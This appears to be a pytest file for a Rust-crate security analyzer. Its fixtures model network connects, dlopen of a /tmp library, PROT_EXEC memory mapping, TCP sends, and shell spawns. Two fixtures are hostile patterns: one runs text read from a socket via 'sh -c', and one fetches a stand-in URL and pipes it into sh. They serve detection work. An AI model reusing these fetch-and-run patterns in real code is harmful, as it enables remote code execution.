"""Addresses by numbers, texts of C, and the types of parts and items: what was lost before."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, FactKind, Report

FactsOf = Callable[..., list[Fact]]
ReportOf = Callable[[Mapping[str, str]], Report]

NUMBERS = {
    "a pair": "TcpStream::connect((Ipv4Addr::new(192, 0, 2, 7), 9))",
    "a pair with an enum": "TcpStream::connect((IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7)), 9))",
    "from a pair": "TcpStream::connect(SocketAddr::from(([192, 0, 2, 7], 9)))",
    "into": "{ let a: SocketAddr = ([192, 0, 2, 7], 9).into(); TcpStream::connect(a) }",
    "an address of a constant": "TcpStream::connect(SocketAddr::new(IpAddr::from(PEER), 9))",
    "an enum of the fourth version": """
        TcpStream::connect(SocketAddr::V4(SocketAddrV4::new([192, 0, 2, 7].into(), 9)))""",
    "parsed": 'TcpStream::connect("192.0.2.7:9".parse::<SocketAddr>().unwrap())',
    "from a text": 'TcpStream::connect(SocketAddr::from_str("192.0.2.7:9").unwrap())',
}


@pytest.mark.parametrize("call", NUMBERS.values(), ids=NUMBERS)
def test_an_address_made_of_numbers_is_known(call: str, facts_of: FactsOf) -> None:
    code = f"use std::net::*; const PEER: [u8; 4] = [192, 0, 2, 7]; pub fn f() {{ {call}; }}"
    facts = [one for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.NET_CONNECT]
    assert [one.subject for one in facts] == ["192.0.2.7:9"]


def test_an_address_of_the_sixth_version_is_known(facts_of: FactsOf) -> None:
    code = """use std::net::*;
        pub fn f() {
            let host = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1));
            TcpStream::connect(SocketAddr::new(host, 9)).ok();
        }"""
    facts = [one for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.NET_CONNECT]
    assert [one.subject for one in facts] == ["[2001:db8::1]:9"]


TEXTS_OF_C = {
    "bytes": 'b"/tmp/y.so\\0".as_ptr() as _',
    "a text that is cast": '"/tmp/y.so\\0".as_ptr().cast()',
    "a checked text": 'CStr::from_bytes_with_nul(b"/tmp/y.so\\0").unwrap().as_ptr()',
    "a literal": 'c"/tmp/y.so".as_ptr()',
    "joined": 'concat!("/tmp/", "y.so\\0").as_ptr() as *const _',
}


@pytest.mark.parametrize("text", TEXTS_OF_C.values(), ids=TEXTS_OF_C)
def test_a_text_of_c_ends_before_its_zero(text: str, facts_of: FactsOf) -> None:
    code = f"use std::ffi::CStr; pub fn f() {{ unsafe {{ libc::dlopen({text}, 1); }} }}"
    manifest = '[package]\nname = "sample-crate"\nversion = "0.1.0"\n[dependencies]\nlibc = "0.2"'
    facts = facts_of(code, "src/lib.rs", **{"Cargo.toml": manifest})
    assert [one.subject for one in facts if one.kind is FactKind.CODE_LOAD] == ["/tmp/y.so"]


CONSTANTS = {
    "by path": "fn f() { unsafe { libc::mmap(p, 1, libc::PROT_EXEC, 2, -1, 0); } }",
    "by name": "use libc::PROT_EXEC; fn f() { unsafe { libc::mmap(p, 1, PROT_EXEC, 2, -1, 0); } }",
    "by a glob": "use libc::*; fn f() { unsafe { mmap(p, 1, PROT_READ | PROT_EXEC, 2, -1, 0); } }",
    "in a macro": "use libc::PROT_EXEC; fn f() { check!(mprotect(p, 1, PROT_EXEC)); }",
}


@pytest.mark.parametrize("code", CONSTANTS.values(), ids=CONSTANTS)
def test_a_telling_constant_is_seen_however_it_is_named(code: str, facts_of: FactsOf) -> None:
    manifest = '[package]\nname = "sample-crate"\nversion = "0.1.0"\n[dependencies]\nlibc = "0.2"'
    facts = facts_of(code, "src/lib.rs", **{"Cargo.toml": manifest})
    assert FactKind.CODE_EXECUTE_MEMORY in {one.kind for one in facts}


def test_a_constant_that_a_crate_names_likewise_says_nothing(facts_of: FactsOf) -> None:
    code = "pub const PROT_EXEC: i32 = 4; pub fn f() -> i32 { PROT_EXEC }"
    assert FactKind.CODE_EXECUTE_MEMORY not in {one.kind for one in facts_of(code, "src/lib.rs")}


SENDERS = {
    "halves of a stream": """
        pub fn f() { let s = TcpStream::connect("a.invalid:9").unwrap();
            let (_r, mut w): (TcpStream, TcpStream) = (s.try_clone().unwrap(), s); w.write_all(b"x"); }""",
    "a part of what a function gives": """
        fn open() -> std::io::Result<(u8, TcpStream)> { todo!() }
        pub fn f() { let (_n, mut s) = open().unwrap(); s.write_all(b"x"); }""",
    "who connects": """
        pub fn f() { let l = TcpListener::bind("0.0.0.0:9").unwrap();
            let (mut s, _) = l.accept().unwrap(); s.write_all(b"x"); }""",
    "all who connect": """
        pub fn f() { for s in TcpListener::bind("0.0.0.0:9").unwrap().incoming() {
            let mut s = s.unwrap(); s.write_all(b"x"); } }""",
    "items of a parameter": """
        pub fn f(all: &mut [TcpStream]) { for s in all.iter_mut() { s.write_all(b"x"); } }""",
    "items of a field": """
        pub struct T { all: Vec<TcpStream> }
        impl T { pub fn f(&mut self) { for s in &mut self.all { s.write_all(b"x"); } } }""",
    "values of a table": """
        pub fn f(all: std::collections::HashMap<u8, TcpStream>) {
            all.into_values().for_each(drop); for s in all.values() { s.write_all(b"x"); } }""",
    "one of a list": """
        pub fn f(all: Vec<TcpStream>) { all[0].write_all(b"x"); }""",
    "in a closure": """
        pub fn f(all: Vec<TcpStream>) { all.iter().for_each(|s| { s.write_all(b"x"); }); }""",
    "a part of a tuple struct": """
        pub struct T(u8, TcpStream); impl T { pub fn f(&mut self) { self.1.write_all(b"x"); } }""",
    "in a buffer": """
        pub fn f(s: TcpStream) { let mut w = std::io::BufWriter::new(s); w.write_all(b"x"); }""",
}


@pytest.mark.parametrize("code", SENDERS.values(), ids=SENDERS)
def test_the_type_of_a_part_or_an_item_is_known(code: str, facts_of: FactsOf) -> None:
    facts = facts_of(f"use std::net::*; use std::io::Write; {code}", "src/lib.rs")
    sent = [one for one in facts if one.kind is FactKind.NET_SEND]
    assert {one.api for one in sent} == {"std::net::TcpStream::write_all"}


def test_an_empty_text_that_is_lent_to_be_filled_is_not_known(facts_of: FactsOf) -> None:
    code = """
        pub fn f(mut from: std::net::TcpStream) {
            let mut text = String::new();
            std::io::Read::read_to_string(&mut from, &mut text).unwrap();
            std::process::Command::new("sh").arg("-c").arg(text).spawn().unwrap();
        }"""
    facts = [one for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.PROCESS_SHELL]
    assert [one.data for one in facts] == [("-c", "{}")]


def test_what_a_macros_command_is_given_later_arrives(report_of: ReportOf) -> None:
    code = """use xshell::{cmd, Shell};
        pub fn f() {
            let sh = Shell::new().unwrap();
            let text = ureq::get("https://a.invalid/x").call().unwrap().into_string().unwrap();
            let shell = cmd!(sh, "sh");
            shell.stdin(text).run().unwrap();
        }"""
    manifest = """[package]
name = "sample-crate"
version = "0.1.0"
[dependencies]
ureq = "2"
xshell = "0.2"
"""
    report = report_of({"src/lib.rs": code, "Cargo.toml": manifest})
    assert "fetched-command-runs" in {one.rule for one in report.findings}


LATER = {
    "in a branch": """
        let mut cmd;
        if cfg!(windows) { cmd = Command::new("cmd"); cmd.args(["/C", "dir"]); }
        else { cmd = Command::new("sh"); cmd.args(["-c", "id"]); }
        cmd.spawn();""",
    "at once": """let mut cmd: Command; cmd = Command::new("sh"); cmd.arg("-c").arg("id"); cmd.spawn();""",
    "in a block": """let mut cmd; { cmd = Command::new("sh"); } cmd.arg("-c").arg("id").spawn();""",
}


@pytest.mark.parametrize("code", LATER.values(), ids=LATER)
def test_a_local_that_is_given_its_value_later_is_known(code: str, facts_of: FactsOf) -> None:
    facts = facts_of(f"use std::process::Command; pub fn f() {{ {code} }}", "src/lib.rs")
    shells = {one.subject for one in facts if one.kind is FactKind.PROCESS_SHELL}
    assert "id" in shells
